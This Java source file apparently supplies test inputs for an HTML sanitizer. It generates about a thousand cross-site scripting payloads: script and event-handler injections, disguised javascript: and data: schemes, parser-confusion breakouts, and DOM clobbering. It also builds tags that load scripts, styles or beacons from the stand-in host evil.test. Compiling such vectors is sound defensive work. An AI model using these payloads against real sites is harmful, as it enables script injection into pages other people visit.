package dev.daybook.hostile;

import java.util.ArrayList;
import java.util.List;

/// Pieces of text that try to run, to load from elsewhere, or to pass for a part of the page. Each
/// family is spelled out in every way in which readers of HTML and of addresses have been fooled.
public final class Payloads {
  /// What every script in here would call; none of them ever may.
  private static final String CALL = "alert(1)";

  private static final List<String> SCHEMES =
      List.of("javascript:", "vbscript:", "data:text/html,", "data:image/svg+xml,", "file:///");

  private static final List<String> EVENTS =
      List.of("onerror", "onload", "onclick", "ontoggle", "onfocus", "onbegin", "ONMOUSEOVER");

  private static final List<String> ELEMENTS =
      List.of("img src=x", "svg", "body", "details open", "input autofocus", "video", "a href=#x");

  /// What browsers have taken for the space before an attribute.
  private static final List<String> GAPS = List.of(" ", "/", "\t", "\n", "\f", " x=\"", "\0 ");

  private static final List<String> EMBEDS =
      List.of(
          "<script>%s</script>",
          "<SCRIPT\n>%s</SCRIPT\n>",
          "<script src=//evil.test/x.js></script>",
          "<scr<script>ipt>%s</scr</script>ipt>",
          "<iframe srcdoc='<script>%s</script>'></iframe>",
          "<iframe src=javascript:%s></iframe>",
          "<object data=javascript:%s></object>",
          "<embed src=//evil.test/x.swf>",
          "<base href=//evil.test/>",
          "<meta http-equiv=refresh content='0;url=javascript:%s'>",
          "<link rel=stylesheet href=//evil.test/x.css>",
          "<link rel=import href=//evil.test/x>",
          "<style>@import '//evil.test/x.css';</style>",
          "<p style='background:url(//evil.test/x)'>x</p>",
          "<div style='position:fixed;inset:0'>x</div>",
          "<form action=//evil.test><button>x</button></form>",
          "<form id=search><input name=q formaction=javascript:%s></form>",
          "<button formaction=javascript:%s>x</button>",
          "<isindex action=javascript:%s type=image>",
          "<math><mtext><table><mglyph><style><img src=x onerror=%s>",
          "<math href=javascript:%s>x</math>",
          "<svg><script>%s</script></svg>",
          "<svg><a xlink:href=javascript:%s><text>x</text></a></svg>",
          "<svg><use href='data:image/svg+xml,<svg onload=%s>'/></svg>",
          "<svg><animate attributeName=href values=javascript:%s /></svg>",
          "<svg><foreignObject><p onclick=%s>x</p></foreignObject></svg>",
          "<noscript><p title='</noscript><img src=x onerror=%s>'>",
          "<textarea></textarea><img src=x onerror=%s>",
          "<title><a title='</title><img src=x onerror=%s>'>",
          "<xmp><img title='</xmp><img src=x onerror=%s>'>",
          "<template><script>%s</script></template>",
          "<!--><img src=x onerror=%s>-->",
          "<!--<img title='--><img src=x onerror=%s>'>",
          "<![CDATA[<img src=x onerror=%s>]]>",
          "<?xml version='1.0'?><img src=x onerror=%s>",
          "<plaintext><img src=x onerror=%s>",
          "<select><style></select><img src=x onerror=%s></style>",
          "</mark><img src=x onerror=%s>",
          "</title></head><script>%s</script>",
          "\"><img src=x onerror=%s>",
          "' onmouseover='%s",
          "\" autofocus onfocus=\"%s",
          "<a target=_blank href=http://evil.test/>x</a>",
          "<custom-element onclick=%s>x</custom-element>",
          "<slot name=x></slot>",
          "<dialog open>x</dialog>",
          "<marquee onstart=%s>x</marquee>",
          "<keygen autofocus onfocus=%s>",
          "<frameset onload=%s>",
          "&lt;script&gt;%s&lt;/script&gt;",
          "&#60;script&#62;%s&#60;/script&#62;",
          "\\<script\\>%s\\</script\\>",
          "{{constructor.constructor('%s')()}}",
          "${%s}");

  private static final List<String> BEACONS =
      List.of(
          "<img src=%s>",
          "<img src='x' srcset='%s 1x'>",
          "<img/src=%s>",
          "<picture><source srcset=%s><img src=x></picture>",
          "<video poster=%s></video>",
          "<video src=%s></video>",
          "<audio src=%s></audio>",
          "<track src=%s>",
          "<input type=image src=%s>",
          "<body background=%s>",
          "<table background=%s><tr><td>x</td></tr></table>",
          "<svg><image href=%s /></svg>",
          "<svg><feImage xlink:href=%s /></svg>",
          "<a href=/ ping=%s>x</a>",
          "<link rel=prefetch href=%s>",
          "<link rel=icon href=%s>");

  private static final List<String> ELSEWHERE =
      List.of(
          "http://evil.test/i.png",
          "https://evil.test/i.png",
          "//evil.test/i.png",
          "///evil.test/i.png",
          "\\\\evil.test\\i.png",
          "/\\evil.test/i.png",
          "HTTPS:evil.test",
          "http:/evil.test/i.png",
          "http&#58;//evil.test/i.png",
          "ht\ttp://evil.test/i.png",
          "http://user@evil.test/i.png",
          "ftp://evil.test/i.png",
          "blob:http://evil.test/1");

  private static final List<String> CLOBBERS =
      List.of(
          "<a id=%s>x</a>",
          "<a id=%1$s><a id=%1$s name=href href=//evil.test>x</a>",
          "<img name=%s src=/x>",
          "<form name=%s></form>",
          "<p id=%s class=hit>x</p>",
          "<h2 id='n-%s'>x</h2>");

  private static final List<String> NAMES =
      List.of(
          "location", "cookie", "q", "search", "body", "__proto__", "results", "getElementById");

  private Payloads() {}

  /// All of them, some thousand.
  public static List<String> all() {
    List<String> all = new ArrayList<>(addresses());
    for (String embed : EMBEDS) all.add(embed.replace("%s", CALL));
    for (String element : ELEMENTS) {
      for (String event : EVENTS) {
        for (String gap : GAPS) all.add("<" + element + gap + event + "=" + CALL + ">");
      }
    }
    for (String beacon : BEACONS) {
      for (String url : ELSEWHERE) all.add(beacon.formatted(url));
    }
    for (String clobber : CLOBBERS) {
      for (String name : NAMES) all.add(clobber.formatted(name));
    }
    for (String url : addresses()) {
      all.add("<a href=\"" + url + "\">x</a>");
      all.add("<img src=" + url + ">");
    }
    return all;
  }

  /// Addresses that no link and no image may have, and those that only look like them.
  public static List<String> addresses() {
    List<String> addresses = new ArrayList<>(ELSEWHERE);
    for (String scheme : SCHEMES) addresses.addAll(spelled(scheme));
    return addresses;
  }

  private static List<String> spelled(String scheme) {
    String first = scheme.substring(0, 1);
    String rest = scheme.substring(1);
    return List.of(
            scheme,
            scheme.toUpperCase(java.util.Locale.ROOT),
            "&#" + (int) scheme.charAt(0) + ";" + rest,
            "&#x" + Integer.toHexString(scheme.charAt(0)) + rest,
            "&#0000" + (int) scheme.charAt(0) + rest,
            first + "&Tab;" + rest,
            first + "&NewLine;" + rest,
            first + "\t" + rest,
            first + "\n" + rest,
            first + "\0" + rest,
            "\u0001" + scheme,
            "  " + scheme,
            "&nbsp;" + scheme,
            "\u2028" + scheme,
            scheme.replace(":", "&colon;"),
            scheme.replace(":", "&#58;"),
            scheme.replace(":", "%3A"),
            first + "%0a" + rest,
            "\\" + scheme,
            first + "\\" + rest,
            "view-source:" + scheme,
            "feed:" + scheme,
            "/note/../" + scheme,
            "#" + scheme)
        .stream()
        .map(it -> it + CALL)
        .toList();
  }
}
